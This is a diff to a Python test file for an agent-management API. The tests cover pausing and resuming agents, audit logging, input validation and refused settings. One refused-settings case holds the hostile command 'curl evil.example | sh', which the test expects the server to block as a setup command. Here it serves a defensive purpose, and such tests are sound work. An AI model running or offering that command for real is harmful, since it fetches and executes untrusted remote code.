@@ -5,7 +5,6 @@ from __future__ import annotations
 import asyncio
 import json
 import socket
-import threading
 import time
 from contextlib import suppress
 from datetime import timedelta
@@ -16,27 +15,14 @@ import pytest
 from websockets.exceptions import InvalidStatus
 from websockets.sync.client import connect
 
-from memory import Attempt, FailureReason, ModelCall, Role, Task, TaskStatus, Verdict, utc_now
+from api.live import Event
+from memory import Activity, Attempt, FailureReason, ModelCall, Role, Task, TaskStatus, Verdict, utc_now
 from memory.database.schema import access
 from owner.actions import MOST_NOTE
-from tests.api.conftest import Rooms
+from tests.api.conftest import Rooms, audited, csrf_of, lines_of, problem
 
+SECRET = "sk-proj-" + "abcdefgh12345678" * 3
 BLOCKED = {"reason": FailureReason.NEEDS_OWNER, "detail": "Which colour?"}
-
-
-def problem(answer: httpx2.Response, status: int) -> str:
-    """The name of the problem, which has to look as RFC 9457 says."""
-    assert answer.status_code == status, answer.text
-    assert answer.headers["content-type"] == "application/problem+json"
-    body = answer.json()
-    assert body["status"] == status and body["title"] and body["detail"] and body["instance"]
-    return str(body["type"]).rpartition(":")[2]
-
-
-def audited(rooms: Rooms) -> list[tuple[str, str]]:
-    """What people did, as the audit trail has it."""
-    lines = [line for line in rooms.store.journal.activity() if "by" in line.details]
-    return [(line.activity, str(line.details["by"])) for line in lines]
 
 
 def test_a_program_gives_work_finds_it_and_changes_it(rooms: Rooms) -> None:
@@ -131,7 +117,12 @@ def test_what_stopped_is_answered_and_each_word_is_in_the_audit_trail(rooms: Roo
     rooms.add_task()
     assert problem(operator.post("/api/v1/tasks/t-1/approve"), 409) == "not-now"
     rooms.store.tasks.transition("t-1", TaskStatus.BLOCKED, **BLOCKED)  # type: ignore[arg-type]
+    rooms.store.evidence.record_attempt(
+        Attempt(task_id="t-1", run=0, stage="code", approach=1, number=1, outcome="failed", evidence="1 != 2\n")
+    )
     (item,) = operator.get("/api/v1/inbox").json()["items"]
+    assert item["stopped"] == operator.get("/api/v1/tasks/t-1").json()["stopped"]
+    assert item["stopped"]["evidence"] == ["1 != 2"]
     assert item["stopped"]["detail"] == "Which colour?"
     assert [(action["verb"], action["takes_note"]) for action in item["stopped"]["actions"]] == [
         ("approve", True), ("reject", False),
@@ -144,6 +135,22 @@ def test_what_stopped_is_answered_and_each_word_is_in_the_audit_trail(rooms: Roo
     assert audited(rooms) == [("told the daemon", "owner (key 1)")] * 2
 
 
+def test_an_agent_is_held_back_and_let_go_on(rooms: Rooms) -> None:
+    operator, viewer = rooms.program(Role.OPERATOR), rooms.program(Role.VIEWER)
+    at = "/api/v1/agents/qa"
+    assert problem(viewer.post(f"{at}/pause"), 403) == "not-allowed"
+    assert problem(operator.post(f"{at}/resume"), 409) == "not-now"
+    paused = operator.post(f"{at}/pause").json()
+    assert paused["state"] == "paused" and paused["paused_since"] == viewer.get(at).json()["paused_since"]
+    owner = rooms.owner()
+    assert "begins nothing more" in owner.get("/now").text and "Resume QA" in owner.get("/team").text
+    sent = owner.post("/agents/qa/resume", data={"csrf": csrf_of(owner), "back": "/team"})
+    assert sent.headers["location"] == "/team?told=resumed" and viewer.get(at).json()["state"] == "idle"
+    assert owner.post("/agents/nobody/pause", data={"csrf": csrf_of(owner)}).status_code == 404
+    held = [words for words in audited(rooms) if words[0].startswith("agent")]
+    assert held == [("agent paused", "owner (key 1)"), ("agent resumed", "owner")]
+
+
 NONSENSE: list[tuple[str, str, object, int]] = [
     ("GET", "/api/v1/tasks/t-none", None, 404),
     ("GET", "/api/v1/tasks/t-none/diff", None, 404),
@@ -154,7 +161,14 @@ NONSENSE: list[tuple[str, str, object, int]] = [
     ("GET", "/api/v1/tasks?limit=0", None, 422),
     ("GET", "/api/v1/tasks?before=yesterday", None, 422),
     ("GET", "/api/v1/tasks?status=done", None, 422),
-    ("GET", "/api/v1/activity?before=99999999999999999999", None, 422),
+    *(
+        ("GET", f"/api/v1/{path}before={number}", None, 422)
+        for path in ("activity?", "decisions?", "tasks/t-1/calls?")
+        for number in (2**63, -1, "x")
+    ),
+    ("GET", f"/api/v1/events?after={2**63}", None, 422),
+    ("GET", f"/api/v1/tasks/t-1/calls/{2**63}", None, 422),
+    ("DELETE", f"/api/v1/keys/{2**63}", None, 422),
     ("GET", "/api/v1/usage?since=31-12-2025", None, 422),
     ("POST", "/api/v1/tasks", {"title": "  "}, 422),
     ("POST", "/api/v1/tasks", {"title": "x", "priority": 11}, 422),
@@ -203,7 +217,10 @@ def test_settings_are_shown_without_secrets_and_changed_with_their_comments(room
     refused: list[tuple[dict[str, object], int]] = [
         ({"budget.day_usd": -1}, 422), ({"budget.days": 1}, 422), ({"agents.nobody.model": "m"}, 422), ({}, 422),
         ({"sandbox.mode": "off"}, 403), ({"testing.setup_command": "curl evil.example | sh"}, 403), ({"api": {}}, 403),
-        ({"llm.api_key": "sk-1"}, 403), ({"git": {"token": "x"}}, 403),
+        ({"llm.api_key": "sk-1"}, 403), ({"git": {"token": "x"}}, 403), ({"testing.auto_run": True}, 403),
+        ({"testing.without_suite": True}, 403), ({"testing": {"timeout": 5}}, 403), ({"llm.local_model": "/x"}, 403),
+        ({"project.goal": SECRET}, 422), ({"project.backlog_file": ["a.md", SECRET]}, 422),
+        ({"agents": {"qa": {"model": SECRET}}}, 422), ({"agents.qa": {"escalate_to": [SECRET]}}, 422),
     ]  # fmt: skip
     for values, status in refused:
         problem(change(values), status)
@@ -217,27 +234,32 @@ def test_the_api_describes_itself(rooms: Rooms) -> None:
     assert rooms.program(Role.VIEWER, Role.ADMIN).get("/api/v1/openapi.json").json()["openapi"].startswith("3.")
 
 
-def lines_of(client: httpx2.Client, path: str, until: str, **headers: str) -> list[str]:
-    """The lines of a stream up to the one with `until` in it."""
-    found = []
-    with client.stream("GET", path, headers=headers) as stream:
-        for line in stream.iter_lines():
-            found.append(line)
-            if until in line:
-                break
-    return found
-
-
 def test_a_stream_goes_on_where_it_was_and_tells_only_what_is_wanted(rooms: Rooms) -> None:
     for number in range(3):
         rooms.store.journal.log("qa", "attempt", f"t-{number}", outcome="passed")
     client = rooms.program(Role.VIEWER)
-    found = lines_of(client, "/api/v1/events", "id: 3", **{"Last-Event-ID": "1"})
+    found = lines_of(client, "/api/v1/events", "id: 3", last="1")
     assert [line for line in found if line.startswith("id:")] == ["id: 2", "id: 3"]
-    timer = threading.Timer(0.3, lambda: [rooms.store.journal.log(agent, "attempt", "t-2") for agent in ("ceo", "qa")])
-    timer.start()
-    found = lines_of(client, "/api/v1/events?task=t-2&agent=qa", "data:")
-    assert [line for line in found if line.startswith("id:")] == ["id: 5"]
+
+
+def test_what_others_are_told_is_not_even_made_into_an_event(rooms: Rooms, monkeypatch: pytest.MonkeyPatch) -> None:
+    made: list[int] = []
+    make = Event.of
+
+    def counted(line: Activity, title: str) -> Event:
+        made.append(line.id)
+        return make(line, title)
+
+    monkeypatch.setattr("api.live.Event.of", counted)
+
+    def happens() -> None:
+        for agent in ("ceo", "qa"):
+            rooms.store.journal.log(agent, "attempt", "t-2")
+
+    happens()
+    client = rooms.program(Role.VIEWER)
+    found = lines_of(client, "/api/v1/events?task=t-2&agent=qa", "id: 4", happens, last="0")
+    assert [line for line in found if line.startswith("id:")] == ["id: 2", "id: 4"] and set(made) == {2, 4}
 
 
 def test_a_listener_that_never_reads_is_dropped_and_holds_up_nobody(
